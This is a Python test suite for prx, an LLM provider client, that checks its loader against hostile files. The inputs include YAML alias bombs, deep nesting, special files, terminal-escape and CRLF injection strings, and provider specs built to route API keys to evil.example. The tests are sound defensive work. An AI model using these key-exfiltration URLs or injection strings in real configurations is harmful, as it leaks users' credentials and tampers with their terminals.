"""Files made to do harm: each ends in one clear sentence, soon, in little memory, and harms no other file.

What a file may say at all is in test_specs.py and test_config.py; here it is made by somebody who means it.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest
from helpers.byte_server import RawServer, response

import prx
from prx import images, resources
from prx.accounts import toml
from prx.accounts.choose import ModelRef
from prx.conformance import cases, evidence
from prx.lang import bounds, query
from prx.lang.functions import SpecFunctions
from prx.spec.loader import Loader

KEY = "gsk-0123456789-secret"
GOOD = "spec: 1\nid: {}\nextends: openai-chat\nbase_url: http://127.0.0.1:9/v1\n"
# What a child process may have: more than any file needs, less than what harms a machine.
LIMITS = "import resource as r; r.setrlimit(r.RLIMIT_AS, (2 << 30,) * 2); r.setrlimit(r.RLIMIT_CPU, (30, 30));"


@contextlib.contextmanager
def within(seconds):
    """A block that must not take longer: what hangs fails here and now."""

    def late(*_):
        raise AssertionError(f"not done in {seconds} s")

    before = signal.signal(signal.SIGALRM, late)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


# ------------------------------------------------------------------ what stands where a file should


def _sparse(path):
    with path.open("wb") as file:
        file.truncate(20 << 30)


def _socket(path):
    with tempfile.TemporaryDirectory() as short, socket.socket(socket.AF_UNIX) as made:  # such a name has 107 bytes
        made.bind(f"{short}/s")
        Path(short, "s").rename(path)


THINGS = {
    "sparse": (_sparse, "larger than"),
    "endless": (lambda path: path.symlink_to("/dev/zero"), "is not a regular file"),
    "pipe": (os.mkfifo, "is not a regular file"),
    "socket": (_socket, "cannot be read"),
    "folder": (Path.mkdir, "cannot be read: Is a directory"),
    "loop": (lambda path: path.symlink_to(path.name), "cannot be read: Too many levels"),
    "dangling": (lambda path: path.symlink_to("nowhere"), "cannot be read: No such file"),
}
MERGES = "\n".join(f"a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}]}}" for i in range(1, 30))
BOMB = "\n".join(f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 9)}]" for i in range(1, 12))
TEXTS = {
    "merges": (f"a0: &a0 {{k: 1}}\n{MERGES}\n", "anchor &a0"),
    "bomb": (f"b0: &b0 [x]\n{BOMB}\naliases: *b11\n", "anchor &b0"),
    "deep_flow": ("a: " + "[" * 120_000, "nested too deep"),
    "deep_map": ("{a: " * 60_000, "nested too deep"),
    "deep_dashes": ("- " * 120_000, "nested too deep"),
    "nul": ("spec: 1\nname: a\0b\n", "nul.yaml:2:8: control character #x00"),
    "escape": ('spec: 1\nname: "\\e]0;owned\\a"\n', "escape.yaml:2:7: name: control character #x1b"),
    "half": ('spec: 1\nname: "\\uD800"\n', "half.yaml:2:7: name: control character #xd800"),
    "utf16le": ("spec: 1\n".encode("utf-16"), "utf16le.yaml:1:1: not UTF-8"),
    "utf16be": (b"\xfe\xff" + "spec: 1\n".encode("utf-16-be"), "utf16be.yaml:1:1: not UTF-8"),
    "utf32": ("spec: 1\n".encode("utf-32"), "utf32.yaml:1:1: not UTF-8"),
    "long_key": ("? " + "base_url" * 30_000 + "\n: 1\n", "unknown key 'base_urlbase_url"),
    "keys": ("".join(f"k{i}: 1\n" for i in range(2_400)), "unknown key 'k0'"),
    "nodes": ("a: [" + "1, " * 6_000 + "1]\n", "too many nodes"),
    "overrides": ("overrides:\n" + "  - {model: a}\n" * 101, "overrides: has 101 entries"),
    "fallbacks": (f"fallbacks: {{{', '.join(f'f{i}: {{}}' for i in range(51))}}}\n", "fallbacks: has 51 entries"),
    "rules": (
        f"errors: {{rules: {{{', '.join(f'r{i}: {{when: a, kind: quota}}' for i in range(201))}}}}}\n",
        "errors.rules: has 201 entries",
    ),
    "events": (
        f"stream: {{events: {{{', '.join(f'e{i}: {{content: a}}' for i in range(201))}}}}}\n",
        "stream.events: has 201 entries",
    ),
}


def _write(data):
    return lambda path: path.write_bytes(data if isinstance(data, bytes) else data.encode())


HAZARDS = {**THINGS, **{name: (_write(data), words) for name, (data, words) in TEXTS.items()}}


@pytest.mark.parametrize("name", HAZARDS)
def test_a_bad_file_is_a_fault_with_its_place(name, tmp_path):
    make, words = HAZARDS[name]
    path = tmp_path / f"{name}.yaml"
    make(path)
    with within(10):
        said = list(map(str, Loader([tmp_path]).check(path)[1]))
    assert any(words in line for line in said), said[:3]
    assert all(line.isprintable() and len(line) < 1_000 for line in said)
    assert said[0].startswith(str(path))


@pytest.fixture(scope="module")
def crowd(tmp_path_factory):
    """A folder of 99 good files and every kind of bad one."""
    folder = tmp_path_factory.mktemp("crowd")
    for number in range(99):
        (folder / f"good{number}.yaml").write_text(f"{GOOD.format(f'good{number}')}aliases: [known-as-{number}]\n")
    for name, (make, _) in HAZARDS.items():
        make(folder / f"{name}.yaml")
    (folder / "odd\n\x1b[31mname.yaml").write_text(GOOD.format("odd"))
    (folder / "_dialects").symlink_to(".")
    (folder / "c.toml").write_text('[providers.good7]\nmodel = "m"\n')
    return folder


def limited(*command, folder):
    env = {"PATH": os.environ["PATH"], "HOME": str(folder / "nobody"), "LANG": "C.UTF-8"}
    run = [sys.executable, "-c", f"{LIMITS}import runpy; runpy.run_module('prx', run_name='__main__')", *command]
    return subprocess.run(run, capture_output=True, text=True, timeout=60, check=False, env=env, cwd=folder)


def test_a_bad_file_harms_no_call_of_another(crowd):
    """In a process of its own: what uses up the stack or the memory ends more than a test."""
    script = f"""{LIMITS}import prx, sys
client = prx.Client(config={{}}, providers=sys.argv[1], env={{"GROQ_API_KEY": "k"}})
for number in range(99):
    assert client.accounts.get(f"known-as-{{number}}").id == f"good{{number}}"
assert client.accounts.get("groq").id == "groq"
for name in sys.argv[2:]:
    try:
        raise AssertionError(f"{{name}} was read as {{client.accounts.get(name).id}}")
    except prx.Error as error:
        assert name in str(error)
print("done")
"""
    run = [sys.executable, "-c", script, str(crowd), *HAZARDS]
    done = subprocess.run(run, capture_output=True, text=True, timeout=60, check=False)
    assert (done.stdout, done.stderr) == ("done\n", "")


def test_a_bad_file_harms_no_command(crowd):
    listed = limited("providers", "--json", "--providers", ".", folder=crowd)
    assert listed.returncode == 0
    assert {f"good{number}" for number in range(99)} <= {row["id"] for row in json.loads(listed.stdout)}
    for name in HAZARDS.keys() - {"folder"}:
        assert f"/{name}.yaml" in listed.stderr
    checked = limited("check", ".", folder=crowd)
    assert checked.returncode == 1
    assert checked.stdout.count(": good\n") == 99
    doctored = limited("doctor", "--config", "c.toml", "--providers", ".", folder=crowd)
    assert doctored.returncode == 1
    assert "connection refused" in doctored.stdout
    for done in (listed, checked, doctored):
        assert "Traceback" not in done.stderr
        assert "a fault of prx" not in done.stderr
        assert "\x1b" not in done.stdout + done.stderr.replace("prx check odd\n\x1b", "")


@contextlib.contextmanager
def as_nobody():
    """Root may read everything, so it is somebody else for a while."""
    root = os.geteuid() == 0
    if root:
        os.seteuid(65534)
    try:
        yield
    finally:
        if root:
            os.seteuid(0)


def test_a_file_that_may_not_be_read():
    with tempfile.TemporaryDirectory() as name:  # pytest's own folders are shut to others
        folder = Path(name)
        folder.chmod(0o755)
        (folder / "shut.yaml").write_text(GOOD.format("shut"))
        assert Loader([folder]).check(folder / "shut.yaml")[1] == []  # and all is loaded that nobody may not read
        (folder / "shut.yaml").chmod(0)
        with as_nobody():
            (problem,) = Loader([folder]).check(folder / "shut.yaml")[1]
    assert problem.text == "cannot be read: Permission denied"


def test_a_file_that_changes_while_it_is_read(tmp_path):
    """The old one, the new one, or one clear error; never half of each."""
    path, other = tmp_path / "moving.yaml", tmp_path / "other"
    texts = [GOOD.format("moving").replace(":9/", f":{port}/") + f"# {'x' * 100_000}\n" for port in (1, 2)]
    path.write_text(texts[0])
    over = threading.Event()

    def move():
        for text in itertools.cycle(texts):
            path.write_text(text)  # cut short and filled again
            other.write_text(text)
            other.replace(path)
            path.unlink()
            if over.is_set():
                return

    thread = threading.Thread(target=move)
    thread.start()
    seen = set()
    try:
        with within(30):
            for _ in range(150):
                try:
                    seen.add(Loader([tmp_path]).get("moving").spec().base_url)
                except prx.Error as error:
                    seen.add(error.kind)
    finally:
        over.set()
        thread.join()
    assert seen <= {"http://127.0.0.1:1/v1", "http://127.0.0.1:2/v1", "spec", "config"}


CIRCLES = {
    "a file": {"one": "extends: three", "two": "extends: one", "three": "extends: two"},
    "a fallback": {"one": "extends: openai-chat\nfallbacks: {again: {when: status, then: {extends: two}}}", "two": "extends: one"},
    "an override": {"one": "extends: openai-chat\noverrides: [{model: m, extends: two}]", "two": "extends: one"},
    "a dialect": {"one": "extends: own", "_dialects/own": "extends: other", "_dialects/other": "extends: own"},
}  # fmt: skip


@pytest.mark.parametrize("circle", CIRCLES)
def test_files_that_extend_each_other(circle, tmp_path):
    (tmp_path / "_dialects").mkdir()
    for name, text in CIRCLES[circle].items():
        (tmp_path / f"{name}.yaml").write_text(
            f"spec: 1\nid: {Path(name).name}\nbase_url: http://127.0.0.1:9/v1\n{text}\n"
        )
    with within(5):
        client = prx.Client(config={}, providers=tmp_path, env={})
        try:
            client.plan("hi", "one/m")
        except prx.SpecError as error:
            assert "leads back to itself" in str(error)  # noqa: PT017 - a file that only its variants lead back to is none
        else:
            assert circle in {"a fallback", "an override"}


# ------------------------------------------------------------------ expressions, templates, patterns


GROWING = [
    " | ".join(["[@, @]"] * 55), " | ".join(["[@, @][]"] * 40), " | ".join(["{a: @, b: @}"] * 30),
    " | ".join(["to_string([@])"] * 20), "join(a, b)", " | ".join(["map(&[@, @], @)"] * 20),
    "join('" + "x" * 200 + "', @)", "[*].[a, b, c][].[a, b, c][].[a, b, c][].[a, b, c][].[a, b, c][]",
]  # fmt: skip


@pytest.mark.parametrize("text", GROWING)
@pytest.mark.parametrize(
    "where", ["response: {{content: {}}}", "deviations: {{chat: [{}]}}", "request: {{body: {{a: {}}}}}"]
)
def test_an_expression_that_grows_is_refused(text, where, tmp_path):
    quoted = json.dumps(f"={text}" if "body" in where else text)
    (tmp_path / "x.yaml").write_text(GOOD.format("x") + where.format(quoted) + "\n")
    with within(5):
        problems = Loader([tmp_path]).check(tmp_path / "x.yaml")[1]
    assert any("more than 100 times in its result" in problem.text and problem.line == 5 for problem in problems), (
        problems
    )


def test_a_template_that_grows_is_refused(tmp_path):
    inner = '"=@"'
    for _ in range(10):
        inner = f'{{each: "=[@, @, @]", item: {inner}}}'
    (tmp_path / "x.yaml").write_text(GOOD.format("x") + f"request: {{body: {{a: {inner}}}}}\n")
    problems = Loader([tmp_path]).check(tmp_path / "x.yaml")[1]
    assert [str(problem).partition(": ")[2] for problem in problems] == [
        "request.body: may repeat parts of a call more than 2000 times in its result; select less of it"
    ]


DEEP = [
    "[" * 490,
    "(" * 490,
    "a" + "[*]" * 160,
    "a" + "[?a]" * 120,
    "[a," * 120 + "a" + "]" * 120,
    "`" + "[" * 240 + "]" * 240 + "`",
]


@pytest.mark.parametrize("text", [*DEEP, "a[::0]", "!" * 499 + "a", "a" * 501], ids=range(len(DEEP) + 3))
def test_an_expression_is_refused_or_runs(text):
    with within(5):
        try:
            tree = query.checked(text)
        except query.QueryError as error:
            assert str(error).isprintable()  # noqa: PT017 - one sentence; the other way out is to run
            return
        found = query.compile_query(text)({"a": [{"a": [1]}] * 3})
    assert len(json.dumps(found)) < 600 + 100 * bounds.of_query(tree)


def test_what_is_let_through_stays_small():
    """The bound is a bound: no expression of these gives more than it."""
    value = {"a": "x" * 50, "b": ["y" * 20] * 5}
    size = len(json.dumps(value))
    for text in (
        "[@, @] | [@, @] | [@, @]",
        "to_string([@, a])",
        "b[*].[@, @][]",
        "map(&[@, @], b)",
        "join('--', b)",
        "a || b",
    ):
        assert len(json.dumps(query.compile_query(text)(value))) <= (size + 20) * bounds.of_query(query.checked(text))


@pytest.mark.parametrize(
    "pattern", ["*a" * 30 + "b", "*[a-z]" * 30 + "0", "?*" * 100 + "b", "*" * 400 + "b", "[" * 400]
)
def test_a_pattern_takes_no_time(pattern, tmp_path):
    """In overrides, in routes, and in like(): none goes back to try again."""
    name = "a" * 20_000
    (tmp_path / "x.yaml").write_text(GOOD.format("x") + f"overrides: [{{model: {json.dumps(pattern)}}}]\n")
    config = {"default": {"provider": "x"}, "model_routes": [{"pattern": pattern, "provider": "x"}]}
    with within(5):
        account, _ = prx.Client(config=config, providers=tmp_path, env={}).plan("hi", name)
        account.definition.spec(name)
        assert SpecFunctions()._func_like(name, pattern) is False


# ------------------------------------------------------------------ who gets the key


THEFTS = {
    "the host": ("base_url: 'https://${GROQ_API_KEY}.evil.example/v1'", "looks like a secret"),
    "the query": ("base_url: 'https://evil.example/v1?k=${GROQ_API_KEY}'", "looks like a secret"),
    "the path, by a name that tells nothing": ("base_url: 'https://evil.example/${CLARIFAI_PAT}'", "CLARIFAI_PAT into its URL"),
    "the user": ("base_url: 'https://${PLAIN}@evil.example/v1'", "user name or password"),
    "its auth": ("base_url: https://evil.example/v1\nauth: {env: GROQ_API_KEY}", "belongs to https://api.groq.com"),
    "one of several": ("base_url: https://evil.example/v1\nauth: {env: [NONE, GROQ_API_KEY]}", "belongs to https://api.groq.com"),
    "a header": ("base_url: https://evil.example/v1\nrequest: {headers: {x-a: 'a ${GROQ_API_KEY}'}}", "belongs to https://api.groq.com"),
    "a query": ("base_url: https://evil.example/v1\nrequest: {query: {k: '${GROQ_API_KEY}'}}", "belongs to https://api.groq.com"),
    "an override": (
        "base_url: https://evil.example/v1\noverrides: [{model: m, request: {headers: {x-a: '${GROQ_API_KEY}'}}}]",
        "belongs to https://api.groq.com",
    ),
    "what it extends": ("extends: groq\nbase_url: https://evil.example/v1", "belongs to https://api.groq.com"),
    "another port": ("extends: groq\nbase_url: https://api.groq.com:444/v1", "belongs to https://api.groq.com"),
    "another scheme": ("extends: groq\nbase_url: http://api.groq.com/v1", "belongs to https://api.groq.com"),
    "a look-alike": ("extends: groq\nbase_url: 'https://api.groq.com\u3002evil.example/v1'", "belongs to https://api.groq.com"),
    "a backslash": ("extends: groq\nbase_url: 'https://evil.example\\@api.groq.com/v1'", "user name or password"),
}  # fmt: skip


@pytest.mark.parametrize("way", THEFTS)
@pytest.mark.parametrize("name", ["thief", "groq"])
def test_no_file_leads_a_key_elsewhere(way, name, tmp_path):
    """Neither by a name of its own nor in the place of the packaged one."""
    text, words = THEFTS[way]
    extends = "" if text.startswith("extends") else "extends: openai-chat\n"
    (tmp_path / f"{name}.yaml").write_text(f"spec: 1\nid: {name}\n{extends}{text}\n")
    env = {"GROQ_API_KEY": KEY, "CLARIFAI_PAT": KEY, "PLAIN": KEY}
    with pytest.raises(prx.Error, match=words) as caught:
        prx.Client(config={}, providers=tmp_path, env=env).plan("hi", f"{name}/m")
    assert KEY not in str(caught.value)


@pytest.mark.parametrize(
    ("was", "becomes"),
    [
        ("\nauth: {style: bearer}\n", "\nauth: {style: bearer, env: GROQ_API_KEY}\n"),
        ("\nrequest:\n", "\nrequest:\n  headers: {x-a: '${GROQ_API_KEY}'}\n"),
    ],
)
def test_no_dialect_of_ones_own_leads_a_key_elsewhere(was, becomes, tmp_path):
    """One that takes the place of a packaged dialect stands below every packaged provider."""
    whole = (resources.folder("providers.d") / "_dialects" / "openai-chat.yaml").read_text()
    assert was in whole
    (tmp_path / "_dialects").mkdir()
    (tmp_path / "_dialects" / "openai-chat.yaml").write_text(whole.replace(was, becomes))
    client = prx.Client(config={}, providers=tmp_path, env={"GROQ_API_KEY": KEY})
    with pytest.raises(prx.ConfigError, match=r"GROQ_API_KEY, which belongs to https://api\.groq\.com") as caught:
        client.accounts.get("sglang")
    assert KEY not in str(caught.value)
    assert client.accounts.get("groq").target.base_url == "https://api.groq.com/openai/v1", "at home it is welcome"


def test_an_endpoint_is_a_path_of_its_own_host(tmp_path):
    for number, path in enumerate(
        ("/../x", "//evil.example/x", "/@evil.example", "/x#@evil.example", "/\\\\evil.example", "/:80/x")
    ):
        with RawServer() as server:
            (tmp_path / "x.yaml").write_text(
                f"spec: 1\nid: x\nextends: openai-chat\nbase_url: {server.url}\nauth: {{env: MINE}}\nendpoints: {{chat: '{path}'}}\n"
            )
            prx.Client(config={}, providers=tmp_path, env={"MINE": KEY}).chat("hi", model="x/m")
            assert server.requests[0]["headers"]["host"] == f"127.0.0.1:{server.port}", number
    for path in ("https://evil.example/x", "@evil.example", "evil", "/x y", "/x\\r\\nx-a: b", ""):
        (tmp_path / "x.yaml").write_text(GOOD.format("x") + f'endpoints: {{chat: "{path}"}}\n')
        with pytest.raises(prx.SpecError, match=r"x\.yaml:5:\d+: endpoints\.chat"):
            prx.Client(config={}, providers=tmp_path, env={}).plan("hi", "x/m")


NAMES = {
    "a?b": "/a%3Fb", "a#b": "/a%23b", "a@b": "/a@b", "//evil.example/x": "//evil.example/x", "a%2e%2e/b": "/a%252e%252e/b",
    "a\r\nx: y": "/a%0D%0Ax:%20y", "a\0b": "/a%00b", "a\\..\\b": "/a%5C..%5Cb", "a/../b": None, "..": None, "a/.": None, "\ud800": None,
}  # fmt: skip


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_models_name_in_a_path_stays_a_name(name, tmp_path):
    with RawServer() as server:
        (tmp_path / "x.yaml").write_text(
            f"spec: 1\nid: x\nextends: openai-chat\nbase_url: {server.url}\nendpoints: {{chat: '/{{model}}:go'}}\nrequest: {{body: {{model: null}}}}\n"
        )
        client = prx.Client(config={}, providers=tmp_path, env={})
        if NAMES[name] is None:
            with pytest.raises(prx.ConfigError, match="cannot stand in a URL"):
                client.chat("hi", model=ModelRef("x", name))
        else:
            client.chat("hi", model=ModelRef("x", name))
            assert server.requests[0]["line"] == f"POST /v1{NAMES[name]}:go HTTP/1.1"


# ------------------------------------------------------------------ headers and numbers


@pytest.mark.parametrize("text", ["€", "ö", "a\\r\\nx-b: c", "a\\0b", "a\\x7fb", "a\\x85b"])
@pytest.mark.parametrize(
    "where", ["request: {{headers: {{x-a: {}}}}}", "auth: {{style: custom, name: x-a, template: {}, env: MINE}}"]
)
def test_a_header_is_plain_text(where, text, tmp_path):
    (tmp_path / "x.yaml").write_text(GOOD.format("x") + where.format(f'"{text} {{api_key}}"') + "\n")
    with pytest.raises(prx.SpecError, match=r"x\.yaml:5:\d+: (request\.headers\.x-a|auth\.template): ") as caught:
        prx.Client(config={}, providers=tmp_path, env={"MINE": KEY}).plan("hi", "x/m")
    assert str(caught.value).replace("\n", "").isprintable()


@pytest.mark.parametrize("name", ["Content-Length", "transfer-encoding"])
def test_nobody_else_says_how_long_a_request_is(name, tmp_path):
    for where in (f"request: {{headers: {{{name}: chunked}}}}", f"auth: {{style: custom, name: {name}}}"):
        (tmp_path / "x.yaml").write_text(f"{GOOD.format('x')}{where}\n")
        with pytest.raises(prx.SpecError, match="prx sets this header itself"):
            prx.Client(config={}, providers=tmp_path, env={}).plan("hi", "x/m")
    for row in ({"headers": {name: "1"}}, {"auth_style": "custom", "auth_name": name}):
        with pytest.raises(prx.ConfigError, match="prx sets this header itself"):
            prx.Client(config={"providers": {"compatible": row}}, env={})


NUMBERS = [
    "transport: {idle: 0}", "transport: {idle: -1}", "transport: {idle: 1e400}", "transport: {idle: .inf}", "transport: {idle: .nan}",
    "transport: {idle: 1000001}", f"transport: {{total: {'9' * 400}}}", f"transport: {{connect: 0x{'f' * 300}}}", f"retry: {{wait: {'9' * 5000}}}",
    "transport: {max_body: 0}", "transport: {max_event: 1023}", "retry: {times: -1}", "retry: {times: 21}", "retry: {max_wait: 1000001}",
    "request: {parameters: {temperature: {min: 2, max: 1}}}", "request: {parameters: {temperature: {default: .inf}}}",
    "overrides: [{model: m, request: {parameters: {temperature: {min: 2, max: 1}}}}]",
]  # fmt: skip


@pytest.mark.parametrize("line", NUMBERS, ids=lambda line: line[:40])
def test_a_number_beyond_its_range(line, tmp_path):
    (tmp_path / "x.yaml").write_text(f"{GOOD.format('x')}{line}\n")
    (problem,) = Loader([tmp_path]).check(tmp_path / "x.yaml")[1]
    assert problem.line == 5
    assert len(str(problem)) < 500


@pytest.mark.parametrize(
    "value", [float("nan"), float("inf"), 1e10, 10**400, 10**5000, -1, 0, "9", True, None], ids=range(10)
)
@pytest.mark.parametrize("key", ["timeout", "deadline"])
def test_a_limit_of_the_configuration_beyond_its_range(key, value):
    with pytest.raises(prx.ConfigError, match=rf"providers\.compatible\.{key}|too many digits"):
        prx.Client(config={"providers": {"compatible": {key: value}}}, env={})
    if value is not None:
        with pytest.raises(prx.ConfigError, match=f"{key} must be a number of seconds"):
            prx.Client(config={"providers": {"compatible": {"api_url": "http://127.0.0.1:9"}}}, env={}).chat(
                "hi", model="compatible/m", **{key: value}
            )


def test_the_words_of_an_error_command_no_terminal(tmp_path):
    with RawServer(response(400, {"error": {"message": "no\x1b]0;owned\x07\u202eway"}})) as server:
        (tmp_path / "c.toml").write_text(f'[providers.compatible]\napi_url = "{server.url}"\n')
        done = limited("chat", "hi", "-m", "compatible/m", "--config", "c.toml", folder=tmp_path)
    assert done.returncode == 1
    assert "no\\x1b]0;owned\\x07\\u202eway" in done.stderr
    assert done.stderr.replace("\n", "").isprintable()


# ------------------------------------------------------------------ config.toml, cases, recordings, pictures


CONFIGS = {
    "sparse": THINGS["sparse"], "endless": THINGS["endless"], "socket": THINGS["socket"], "folder": THINGS["folder"],
    "loop": THINGS["loop"], "dangling": THINGS["dangling"],
    "deep": (_write("a = " + "[" * 5_000), "nested too deep"),
    "digits": (_write(f"a = {'9' * 5_000}"), "too many digits"),
    "nul": (_write('[default]\nmodel = "a\0b"\n'), ":2:11: not TOML"),
    "utf16": (_write("[default]\n".encode("utf-16")), "not UTF-8"),
    "latin": (_write("# caf\xe9\n".encode("latin-1")), "not UTF-8"),
    "spaces": (_write(f'[default]\nmodel = """\n[{" " * 50_000}\n"""\nx = 1\n'), "default.x: unknown key"),
    "tables": (_write("".join(f"[providers.p{i}]\nx = 1\n" for i in range(2_000))), ":2:1: providers.p0.x: unknown key"),
}  # fmt: skip


@pytest.mark.parametrize("name", CONFIGS)
def test_a_bad_configuration_is_one_error(name, tmp_path):
    make, words = CONFIGS[name]
    make(tmp_path / "c.toml")
    with within(10), pytest.raises(prx.ConfigError) as caught:
        prx.Client(config=tmp_path / "c.toml", env={})
    assert str(tmp_path / "c.toml") in str(caught.value)
    assert words in str(caught.value)


def test_a_configuration_may_come_through_a_pipe(tmp_path, monkeypatch):
    """As in --config <(…): a key that is never written down. One that nobody writes into is not waited for."""
    for text, wanted in (("\ufeff[default]\nmodel = 'm'\n", "m"), ("", None)):
        reading, writing = os.pipe()
        with os.fdopen(writing, "wb") as pipe:
            pipe.write(text.encode())
        with os.fdopen(reading, "rb"), within(5):
            if wanted:
                assert prx.Client(config=f"/dev/fd/{reading}", env={}).config.model == wanted
                continue
            with pytest.raises(prx.ConfigError, match="nothing came through this pipe"):
                prx.Client(config=f"/dev/fd/{reading}", env={})
    monkeypatch.setattr(toml, "_PIPE_TIMEOUT", 0.1)
    os.mkfifo(tmp_path / "c.toml")
    with within(5), pytest.raises(prx.ConfigError, match=r"nothing came through this pipe for 0\.1 s"):
        prx.Client(config=tmp_path / "c.toml", env={})


def test_a_path_with_a_nul():
    with pytest.raises(prx.ConfigError, match="cannot be read"):
        prx.Client(config="a\0b", env={})
    assert "cannot be read" in str(Loader().check(Path("a\0b.yaml"))[1][0])


@pytest.mark.parametrize("name", HAZARDS)
def test_a_bad_case_is_a_fault(name, tmp_path):
    make, words = HAZARDS[name]
    make(tmp_path / f"{name}.yaml")
    with within(10):
        said = cases.lint(tmp_path / f"{name}.yaml")
    assert said
    assert words in " ".join(said) or "unknown key" in said[0] or "'title' is missing" in said[0]


EVIDENCE = (
    "evidence: {kind: emulated, what: w, date: '2026-01-01', base_url: http://127.0.0.1:9, model: m, digest: x}\n"
)
RECORDINGS = {
    **THINGS, "merges": HAZARDS["merges"], "bomb": HAZARDS["bomb"], "deep": HAZARDS["deep_flow"], "utf16": HAZARDS["utf16le"],
    "empty": (_write(""), ""), "a list": (_write("[1]"), ""), "odd evidence": (_write("evidence: [1]\ninteractions: []\n"), ""),
    "unknown kind": (_write(f"{EVIDENCE.replace('emulated', 'sworn')}interactions: []\n"), "its kind of evidence is unknown"),
    "a date": (_write(f"{EVIDENCE}interactions: [2026-01-01]\n"), ""),
    "no exchange": (_write(f"{EVIDENCE}interactions: [{{request: {{}}}}]\n"), "'response'"),
    "no method": (_write(f"{EVIDENCE}interactions: [{{request: {{}}, response: {{}}}}]\n"), "'method'"),
    "a number": (_write(f"{EVIDENCE}interactions: 5\n"), ""),
}  # fmt: skip


@pytest.mark.parametrize("name", RECORDINGS)
def test_a_bad_recording_is_none(name, tmp_path):
    make, _ = RECORDINGS[name]
    path = tmp_path / "chat.yaml"
    make(path)
    with within(10):
        with pytest.raises(prx.ConfigError, match=r"chat\.yaml: not a recording: ") as caught:
            evidence.checked(path, evidence.value_of(path))
        evidence.glance(path)
        assert evidence.kinds(Loader().get("compatible").spec(), tmp_path) in ([], ["emulated"])
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("name", THINGS)
def test_a_bad_picture_is_not_sent(name, tmp_path):
    make, _ = THINGS[name]
    make(tmp_path / "x.png")
    config = {"images": {"folder": str(tmp_path)}, "providers": {"compatible": {"api_url": "http://127.0.0.1:9"}}}
    with within(10):
        _, call = prx.Client(config=config, env={}).plan("see [IMAGE:x.png]", "compatible/m")
        assert call.messages[0]["content"] == "see [IMAGE:x.png]"
        with pytest.raises(prx.ConfigError, match="picture"):
            images.read(tmp_path / "x.png")


@pytest.mark.parametrize("name", ["pipe", "endless", "folder", "loop"])
def test_a_bad_file_of_authorities(name, tmp_path):
    make, _ = THINGS[name]
    make(tmp_path / "ca.pem")
    settings = {"api_url": "https://127.0.0.1:9", "ca_file": str(tmp_path / "ca.pem")}
    with within(5), pytest.raises(prx.ConfigError, match=r"providers\.compatible\.ca_file: "):
        prx.Client(config={"providers": {"compatible": settings}}, env={}).chat("hi", model="compatible/m")
